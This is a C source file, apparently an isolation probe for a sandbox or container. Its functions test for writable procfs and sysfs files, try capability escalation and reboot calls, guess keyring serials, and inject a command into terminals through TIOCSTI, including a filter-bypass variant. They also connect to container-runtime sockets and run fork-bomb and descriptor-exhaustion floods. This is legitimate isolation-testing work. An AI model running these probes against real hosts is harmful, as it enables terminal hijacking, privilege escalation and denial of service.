/* Interfaces of the kernel: procfs, sysfs, capabilities, keyrings, terminals, sockets, limits. */
#include "probe.h"

#include <dirent.h>
#include <ftw.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stddef.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>

static int seen, writable;

static int try_write(const char *path, const struct stat *status, int kind, struct FTW *place)
{
    (void)place;
    const char *rest = strncmp(path, "/proc/", 6) == 0 ? path + 6 : "";
    /* A process's own files are its own business, and are another attack's. */
    if ((*rest >= '0' && *rest <= '9') || strncmp(rest, "self", 4) == 0 || strncmp(rest, "thread-self", 11) == 0)
        return 0;
    if (kind == FTW_F && (S_ISREG(status->st_mode))) {
        seen++;
        int file = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY | O_NOFOLLOW | O_CLOEXEC);
        if (file >= 0) {
            close(file);
            if (++writable < 200)
                printf("%s writable\n", path);
        }
    } else if (kind == FTW_D && faccessat(AT_FDCWD, path, W_OK, AT_EACCESS) == 0) {
        /* Permission bits only; a read-only mount says EROFS here as well. */
        char inner[4200];
        snprintf(inner, sizeof inner, "%s/attack", path);
        if (mkdir(inner, 0700) == 0) {
            rmdir(inner);
            if (++writable < 200)
                printf("%s writable\n", path);
        }
    }
    return 0;
}

/* Every file below argv[1...] that can be opened for writing. */
int attack_writable(int argc, char **argv)
{
    for (int i = 1; i < argc; i++)
        nftw(argv[i], try_write, 50, FTW_PHYS);
    printf("seen %d\nwritable %d\n", seen, writable);
    return 0;
}

/* How much can be read of each of argv[1...]. */
int attack_files(int argc, char **argv)
{
    for (int i = 1; i < argc; i++) {
        char buffer[4096];
        int file = open(argv[i], O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
        ssize_t size = file < 0 ? -1 : read(file, buffer, sizeof buffer);
        if (size < 0)
            printf("%s %s\n", argv[i], error_name(errno));
        else
            printf("%s %zd\n", argv[i], size);
        if (file >= 0)
            close(file);
    }
    return 0;
}

/* The sets, and attempts to have more; then argv[1...] is executed, to see what a program with attributes gets. */
int attack_capabilities(int argc, char **argv)
{
    char line[256];
    FILE *status = fopen("/proc/self/status", "r");
    while (status && fgets(line, sizeof line, status))
        if (strncmp(line, "Cap", 3) == 0 || strncmp(line, "NoNewPrivs", 10) == 0 || strncmp(line, "Seccomp:", 8) == 0
            || strncmp(line, "Uid", 3) == 0 || strncmp(line, "Groups", 6) == 0) {
            char *colon = strchr(line, ':');
            line[strcspn(line, "\n")] = 0;
            *colon = 0;
            for (char *blank = colon + 1; *blank; blank++)
                if (*blank == '\t' || *blank == ' ')
                    *blank = blank == colon + 1 ? ' ' : ',';
            printf("%s%s\n", line, colon + 1);
        }
    if (status)
        fclose(status);
    if (argc > 1) {
        fflush(stdout);
        execv(argv[1], argv + 1);
        tell("exec", -1);
        return 0;
    }
    tell("ambient-sys_admin", prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, 21, 0, 0));
    tell("securebits", prctl(PR_SET_SECUREBITS, 1, 0, 0, 0));
    tell("setuid-outside", setuid(65536));
    tell("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0 /* Ctrl-Alt-Del as it is: off */, NULL));
    tell("settime", syscall(SYS_clock_settime, 0, &(struct timespec){0, 0}));
    tell("swapon", syscall(SYS_swapon, "/nowhere", 0));
    tell("hostname", sethostname("attack", 6));
    tell("iopl", syscall(SYS_ioctl, -1, 0) < 0 ? syscall(172, 3) : 0);
    tell("nice", setpriority(PRIO_PROCESS, 0, -10));
    tell("oom", put("/proc/self/oom_score_adj", "-999"));
    struct rlimit limit = {1 << 24, 1 << 24};
    tell("nofile", setrlimit(RLIMIT_NOFILE, &limit));
    tell("kill-host", kill(-1, 0) == 0 ? 0 : -1);
    return 0;
}

/* `add NAME` puts a key into each keyring, `add NAME RING` into one; `find NAME` looks for it. */
int attack_keyring(int argc, char **argv)
{
    static const struct {
        const char *name;
        int id;
    } rings[] = {{"thread", -1}, {"process", -2}, {"session", -3}, {"user", -4}, {"user-session", -5}};
    if (argc < 3)
        return 2;
    for (size_t i = 0; i < sizeof rings / sizeof *rings; i++) {
        char name[64];
        if (argc > 3 && strcmp(argv[3], rings[i].name) != 0)
            continue;
        snprintf(name, sizeof name, "%s-%s", argv[1], rings[i].name);
        if (strcmp(argv[1], "add") == 0)
            tell(name, syscall(SYS_add_key, "user", argv[2], "secret", 6, rings[i].id));
        else
            tell(name, syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i].id, "user", argv[2], 0));
    }
    char buffer[4096] = "";
    int keys = open("/proc/keys", O_RDONLY | O_CLOEXEC);
    ssize_t size = keys < 0 ? 0 : read(keys, buffer, sizeof buffer - 1);
    buffer[size < 0 ? 0 : size] = 0;
    errno = ENOENT;
    tell("listed", strstr(buffer, argv[2]) ? 0 : -1);
    tell("request", syscall(SYS_request_key, "user", argv[2], NULL, 0));
    /* Keys of others by number: whatever serial the host has. */
    int found = 0;
    for (int serial = 1; serial < 2000; serial++)
        if (syscall(SYS_keyctl, KEYCTL_READ, serial * 523987, buffer, sizeof buffer) >= 0)
            found++;
    printf("guessed %d\n", found);
    return 0;
}

/* Push a line into every terminal in sight. */
int attack_terminal(int argc, char **argv)
{
    const char *line = argc > 1 ? argv[1] : "touch /injected\n";
    char path[300], name[320];
    struct {
        const char *name;
        int fd;
    } ends[5] = {{"stdin", 0}, {"stdout", 1}, {"stderr", 2}, {"tty", open("/dev/tty", O_RDWR | O_CLOEXEC)},
        {"console", open("/dev/console", O_RDWR | O_NOCTTY | O_CLOEXEC)}};
    for (size_t i = 0; i < 5; i++) {
        errno = ENXIO;
        snprintf(name, sizeof name, "isatty-%s", ends[i].name);
        tell(name, isatty(ends[i].fd) ? 0 : -1);
        int result = -1;
        for (const char *letter = line; *letter; letter++)
            if ((result = ioctl(ends[i].fd, TIOCSTI, letter)) < 0)
                break;
        snprintf(name, sizeof name, "sti-%s", ends[i].name);
        tell(name, result);
        char paste = 3; /* TIOCL_PASTESEL */
        snprintf(name, sizeof name, "linux-%s", ends[i].name);
        tell(name, ioctl(ends[i].fd, TIOCLINUX, &paste));
        snprintf(name, sizeof name, "steal-%s", ends[i].name);
        tell(name, ioctl(ends[i].fd, TIOCSCTTY, 1));
        /* The upper half of the command's word is cut by the kernel, not by every filter. */
        snprintf(name, sizeof name, "sti64-%s", ends[i].name);
        tell(name, syscall(SYS_ioctl, ends[i].fd, 0x100000000UL | TIOCSTI, line));
    }
    DIR *pts = opendir("/dev/pts");
    for (struct dirent *entry; pts && (entry = readdir(pts));) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
            continue;
        snprintf(path, sizeof path, "/dev/pts/%s", entry->d_name);
        snprintf(name, sizeof name, "sti-pts-%s", entry->d_name);
        int terminal = open(path, O_RDWR | O_NOCTTY | O_CLOEXEC);
        tell(name, terminal < 0 ? -1 : ioctl(terminal, TIOCSTI, line));
    }
    return 0;
}

/* Connect to every abstract address in sight, and to the sockets of the host's services. */
int attack_sockets(int argc, char **argv)
{
    (void)argc, (void)argv;
    static const char *const paths[] = {"/run/systemd/notify", "/run/systemd/private", "/run/dbus/system_bus_socket",
        "/run/systemd/journal/socket", "/run/systemd/journal/stdout", "/run/systemd/journal/dev-log", "/dev/log",
        "/run/gear/api.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/systemd/io.system.ManagedOOM"};
    char line[512], name[600];
    int connected = 0, tried = 0;
    FILE *table = fopen("/proc/net/unix", "r");
    while (table && fgets(line, sizeof line, table)) {
        char *at = strchr(line, '@');
        if (!at)
            continue;
        line[strcspn(line, "\n")] = 0;
        for (int type = 1; type <= 5; type++) {
            if (type != SOCK_STREAM && type != SOCK_DGRAM && type != SOCK_SEQPACKET)
                continue;
            struct sockaddr_un address = {.sun_family = AF_UNIX};
            size_t size = strnlen(at + 1, sizeof address.sun_path - 1);
            memcpy(address.sun_path + 1, at + 1, size);
            int fd = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
            tried++;
            if (connect(fd, (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + size) == 0) {
                connected++;
                printf("abstract %s\n", at);
            }
            close(fd);
        }
    }
    if (table)
        fclose(table);
    printf("tried %d\nconnected %d\n", tried, connected);
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
        struct sockaddr_un address = {.sun_family = AF_UNIX};
        strcpy(address.sun_path, paths[i]);
        snprintf(name, sizeof name, "connect-%s", paths[i]);
        int stream = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), datagram = socket(AF_UNIX, SOCK_DGRAM, 0);
        if (connect(stream, (void *)&address, sizeof address) == 0)
            tell(name, 0);
        else
            tell(name, connect(datagram, (void *)&address, sizeof address));
        close(stream);
        close(datagram);
    }
    printf("notify %s\n", getenv("NOTIFY_SOCKET") ? getenv("NOTIFY_SOCKET") : "unset");
    return 0;
}

/* Use up what there is of argv[1], and tell how much it was. */
int attack_exhaust(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";
    long count = 0;
    if (strcmp(what, "processes") == 0) {
        for (; count < 50000; count++) {
            pid_t child = fork();
            if (child < 0)
                break;
            if (child == 0)
                for (;;)
                    pause();
        }
        tell("stopped", -1);
        kill(-1, SIGKILL);
        while (wait(NULL) > 0)
            ;
    } else if (strcmp(what, "descriptors") == 0) {
        while (count < 2000000 && dup(0) >= 0)
            count++;
        tell("stopped", -1);
    } else if (strcmp(what, "inotify") == 0) {
        while (count < 100000 && inotify_init1(IN_CLOEXEC) >= 0)
            count++;
        tell("stopped", -1);
    } else if (strcmp(what, "journal") == 0) {
        for (; count < 60000; count++)
            printf("<0>flood %ld\n_SYSTEMD_UNIT=attack.service\n", count);
    }
    printf("count %ld\n", count);
    return 0;
}
